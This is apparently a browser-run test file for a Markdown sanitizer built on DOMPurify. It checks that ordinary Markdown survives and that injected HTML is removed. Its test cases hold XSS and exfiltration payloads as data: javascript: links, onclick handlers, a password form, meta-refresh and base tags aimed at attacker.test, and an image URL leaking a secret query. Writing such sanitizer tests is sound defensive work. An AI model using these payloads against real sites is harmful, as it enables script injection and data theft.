import { fileURLToPath } from 'node:url';
import type { Page } from 'playwright-core';
import { build, type Rolldown } from 'vite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type LaunchedChromium, launchChromium } from '../../../test-support/launch-chromium';

/**
 * Unit tests of renderMarkdown in the browser it runs in: the module is bundled as it is (marked and
 * DOMPurify included) and called on a blank page, so DOMPurify works on Chromium's real HTML parser.
 */
describe('renderMarkdown in Chromium (the sanitizer)', () => {
  let chromium: LaunchedChromium;
  let page: Page;
  const requests: string[] = [];

  /** The HTML renderMarkdown makes of `markdown`, and what inserting it into the page did. */
  async function render(markdown: string) {
    return page.evaluate((source) => {
      const { renderMarkdown } = (
        window as unknown as { sanitizer: { renderMarkdown: (text: string) => string } }
      ).sanitizer;
      const html = renderMarkdown(source);
      const host = document.createElement('div');
      host.innerHTML = html;
      document.body.append(host);
      const result = {
        html,
        tags: Array.from(host.querySelectorAll('*'), (element) => element.tagName.toLowerCase()),
        attributes: Array.from(host.querySelectorAll('*')).flatMap((element) =>
          element.getAttributeNames().map((name) => `${element.tagName.toLowerCase()}[${name}]`),
        ),
        text: host.textContent ?? '',
        bodyDisplay: getComputedStyle(document.body).display,
      };
      host.remove();
      return result;
    }, markdown);
  }

  beforeAll(async () => {
    const output = await build({
      configFile: false,
      logLevel: 'silent',
      build: {
        write: false,
        minify: false,
        lib: {
          entry: fileURLToPath(new URL('../src/ui/lib/render-markdown.ts', import.meta.url)),
          formats: ['iife'],
          name: 'sanitizer',
        },
      },
    });
    const [result] = Array.isArray(output) ? output : [output];
    const chunk = (result as Rolldown.RolldownOutput).output.find((file) => file.type === 'chunk');
    chromium = await launchChromium({ profilePrefix: 'xinghuo-playground-sanitizer-' });
    await chromium.context.route('**/*', (route) =>
      route.fulfill({ status: 200, contentType: 'text/html', body: '<!doctype html><body></body>' }),
    );
    page = chromium.context.pages()[0] ?? (await chromium.context.newPage());
    page.on('request', (request) => requests.push(request.url()));
    await page.goto('http://sanitizer.test/');
    await page.addScriptTag({ content: chunk!.code });
  });

  afterAll(async () => {
    await chromium?.close();
  });

  it('keeps ordinary Markdown: headings, emphasis, lists, code, tables, quotes and web links', async () => {
    const result = await render(
      '# Title\n\n**bold** _em_ `code` ~~del~~\n\n1. one\n2. two\n\n> quote\n\n```js\nlet a = 1;\n```\n\n' +
        '| a | b |\n|:--|--:|\n| 1 | 2 |\n\n[docs](https://example.com/docs)',
    );
    for (const tag of [
      'h1',
      'strong',
      'em',
      'code',
      'del',
      'ol',
      'li',
      'blockquote',
      'pre',
      'table',
      'th',
      'td',
      'a',
    ]) {
      expect(result.tags, tag).toContain(tag);
    }
    expect(result.html).toContain('href="https://example.com/docs"');
    expect(result.html).toContain('target="_blank"');
    expect(result.html).toContain('rel="noopener noreferrer nofollow"');
    expect(result.attributes.filter((attribute) => attribute.endsWith('[class]'))).toEqual([]);
  });

  it.each([
    ['a <style> element', '<style>body{display:none}</style>hello'],
    ['a style attribute', '<p style="position:fixed;inset:0;z-index:9999">cover</p>'],
    [
      'a form with a password field',
      '<form action="https://attacker.test/x"><input type="password"><button>go</button></form>',
    ],
    [
      'an iframe, object and embed',
      '<iframe src="https://attacker.test"></iframe><object data="x"></object><embed src="x">',
    ],
    [
      'event handlers',
      '<a href="https://example.com" onclick="alert(1)" onmouseover="alert(2)">x</a><b onclick="x()">b</b>',
    ],
    ['SVG and MathML', '<svg><a href="javascript:alert(1)"><text>x</text></a></svg><math><mi>x</mi></math>'],
    [
      'a <base>, <meta> and <link>',
      '<base href="https://attacker.test/"><meta http-equiv="refresh" content="0;url=https://attacker.test"><link rel="stylesheet" href="https://attacker.test/s.css">',
    ],
    [
      'class, id and data attributes',
      '<p class="composer" id="root" data-testid="composer-input" aria-hidden="true">x</p>',
    ],
    ['dialog and popover', '<dialog open>x</dialog><p popover>y</p>'],
  ])('removes %s', async (_name, markdown) => {
    const result = await render(markdown);
    for (const tag of [
      'style',
      'form',
      'input',
      'button',
      'iframe',
      'object',
      'embed',
      'svg',
      'math',
      'base',
      'meta',
      'link',
      'dialog',
    ]) {
      expect(result.tags, tag).not.toContain(tag);
    }
    for (const attribute of result.attributes) {
      expect(attribute).toMatch(/^(a\[(href|target|rel|title)\]|[a-z0-9]+\[(title|alt|start|align)\])$/);
    }
    expect(result.bodyDisplay).not.toBe('none');
    expect(result.html).not.toMatch(/javascript:|attacker\.test|display:none/);
  });

  it('drops javascript:, data:, relative and protocol-relative links but keeps their text', async () => {
    const result = await render(
      '[a](javascript:alert(1)) [b](data:text/html,x) [c](/api/mock/next-fault) [d](//attacker.test) <a href=" JaVaScRiPt:alert(1)">e</a>',
    );
    expect(result.tags).not.toContain('a');
    expect(result.text.replace(/\s+/g, '')).toBe('abcde');
  });

  it('shows a remote image as a click-to-open link naming its host, and loads nothing', async () => {
    const before = requests.length;
    const result = await render('see ![secret chart](https://attacker.test/?q=secret "t")');
    expect(result.tags).not.toContain('img');
    expect(result.html).toContain('class="remote-image"');
    expect(result.html).toContain('href="https://attacker.test/?q=secret"');
    expect(result.text).toContain('Open image from attacker.test');
    expect(requests.slice(before)).toEqual([]);
  });

  it('turns data: and relative images into their alt text, and an image inside a link into text', async () => {
    const result = await render(
      '![pixel](data:image/png;base64,iVBORw0KGgo=) ![logo](/logo.png) [![badge](https://attacker.test/b.svg)](https://example.com)',
    );
    expect(result.tags).not.toContain('img');
    expect(result.text).toContain('pixel');
    expect(result.text).toContain('logo');
    expect(result.text).toContain('badge (Open image from attacker.test)');
    expect(result.tags.filter((tag) => tag === 'a')).toHaveLength(1);
  });
});
